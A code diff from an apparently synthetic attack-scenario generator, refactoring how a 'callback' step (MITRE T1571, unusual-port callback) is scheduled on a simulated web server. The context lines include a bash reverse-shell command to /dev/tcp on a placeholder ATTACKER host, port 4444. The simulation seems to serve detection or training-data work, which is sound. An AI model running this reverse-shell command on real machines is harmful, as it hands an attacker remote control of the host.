@@ -99,10 +99,8 @@ def _call(script: Script) -> None:
         network.connect(scene, time_us + SECOND, server.address, ATTACKER, 4443, "", 50 * SECOND, 4_100, 2_900, mark)
 
     step = script.step("callback", "T1571", "It calls out on an unusual port", "经非常用端口回连")
-    time_us = script.at(0.5, 21.0)
-    while time_us < script.end_us:
-        script.plant(step, time_us, server, "www-data", run_job, ip=ATTACKER)
-        time_us += 30 * MINUTE
+    times_us = script.every(script.at(0.5, 21.0), 30 * MINUTE, 0)
+    script.plant_often(step, times_us, server, "www-data", run_job, ip=ATTACKER)
 
     def call_back(scene: Scene, time_us: int, mark: int) -> None:
         command = f"bash -c 'bash -i >& /dev/tcp/{ATTACKER}/4444 0>&1'"
